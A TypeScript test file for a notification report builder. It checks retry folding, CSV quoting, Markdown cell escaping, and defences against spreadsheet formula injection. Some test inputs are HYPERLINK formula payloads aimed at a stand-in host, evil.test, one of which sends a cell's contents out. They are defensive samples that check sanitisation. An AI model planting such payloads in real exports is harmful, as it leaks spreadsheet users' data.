import { describe, expect, it } from 'vitest';
import { buildReport } from '../../src/app/report/build.js';
import { csvField, reportCsv, CSV_COLUMNS } from '../../src/app/report/csv.js';
import { mdCell, reportMarkdown } from '../../src/app/report/markdown.js';
import { parseMap } from '../../src/config/parse-map.js';
import type { NotifyEvent } from '../../src/domain/events.js';
import { parseCsv } from './csv-parse.js';

const { map } = parseMap(
  `version: 1
from: projects@acme.test
parties:
  support: { name: Support, contacts: [a@acme.test, b@acme.test] }
  boss: { name: Direction, contacts: [boss@acme.test], always: true }
`,
  '/m/notify.yaml',
  'notify.yaml',
);
const base = (n: number, event: string, extra: object) => ({ id: `e${n}`, ts: `2026-01-0${n}T10:00:00.000Z`, project: 'p', event, ...extra }) as unknown as NotifyEvent;
const who = (r: string, parties = ['support']) => ({ recipient: r, parties, message_id: `<${r}>` });

describe('buildReport', () => {
  const events = [
    base(1, 'close.planned', { actions: [], parties: ['support', 'boss'], skipped: [], summary: 'multi\nline, "quoted"', decided_by: 'bob' }),
    base(2, 'notification.attempt', who('a@acme.test')),
    base(3, 'notification.failed', { ...who('a@acme.test'), code: 451, text: 'try later', permanent: false }),
    base(4, 'notification.attempt', who('a@acme.test')),
    base(5, 'notification.sent', { ...who('a@acme.test'), response: '250 ok', via: 'smtp' }),
    base(6, 'notification.attempt', who('b@acme.test')),
    base(7, 'notification.sent', { ...who('b@acme.test'), response: 'marked as sent by hand', via: 'manual', reason: 'called, | confirmed' }),
  ];

  it('folds retries, manual marks and the pending recipients of an open close', () => {
    const r = buildReport(map!, 'p', events, { log: '.notify/log.jsonl', now: new Date('2026-02-01T00:00:00Z') });
    expect(r.status).toBe('open');
    expect(r.recipients).toEqual([
      { address: 'a@acme.test', parties: ['support'], status: 'sent', at: '2026-01-05T10:00:00.000Z', message_id: '<a@acme.test>', response: '250 ok', via: 'smtp', note: undefined, attempts: 2 },
      { address: 'b@acme.test', parties: ['support'], status: 'sent', at: '2026-01-07T10:00:00.000Z', message_id: '<b@acme.test>', response: 'marked as sent by hand', via: 'manual', note: 'called, | confirmed', attempts: 1 },
      { address: 'boss@acme.test', parties: ['boss'], status: 'pending', message_id: expect.stringMatching(/^<notify\.p\./), attempts: 0 },
    ]);
    expect(r.parties.map((p) => [p.id, p.status])).toEqual([['support', 'told'], ['boss', 'pending']]);
    expect(r.counts).toMatchObject({ told: 1, not_told: 1, recipients_sent: 2, recipients_not_sent: 1 });
  });

  it('CSV quotes commas, quotes and line breaks, and reads back to the same values', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(undefined)).toBe('');
    const r = buildReport(map!, 'p', events, { log: 'log', now: new Date() });
    const rows = parseCsv(reportCsv(r));
    expect(rows.slice(1).every((row) => row.length === CSV_COLUMNS.length)).toBe(true);
    expect(rows[1][CSV_COLUMNS.indexOf('summary')]).toBe('multi\nline, "quoted"');
    expect(rows[2][CSV_COLUMNS.indexOf('note')]).toBe('called, | confirmed');
  });

  it('CSV cells that a spreadsheet would run as a formula start with a single quote', () => {
    expect(csvField('=HYPERLINK("http://evil.test/?x="&A1,"details")')).toBe(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""details"")"`);
    for (const start of ['=', '+', '-', '@']) expect(csvField(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(csvField('\t=1+1')).toBe(`'\t=1+1`);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('a=1')).toBe('a=1');
    const skipped = [...events.slice(0, 1), base(8, 'party.skipped', { party: 'boss', reason: '=HYPERLINK("http://evil.test","x")' })];
    const rows = parseCsv(reportCsv(buildReport(map!, 'p', skipped, { log: 'log', now: new Date() })));
    const row = rows.find((r) => r[CSV_COLUMNS.indexOf('status')] === 'skipped')!;
    expect(row[CSV_COLUMNS.indexOf('note')]).toBe(`'=HYPERLINK("http://evil.test","x")`);
  });

  it('Markdown cells never break the table', () => {
    expect(mdCell('a | b\nc <x>')).toBe('a \\| b c &lt;x&gt;');
    const md = reportMarkdown(buildReport(map!, 'p', events, { log: 'log', now: new Date() }));
    const tableLines = md.split('\n').filter((l) => l.startsWith('|'));
    for (const l of tableLines) expect(l.endsWith('|')).toBe(true);
    expect(md).toContain('by hand: called, \\| confirmed');
  });
});
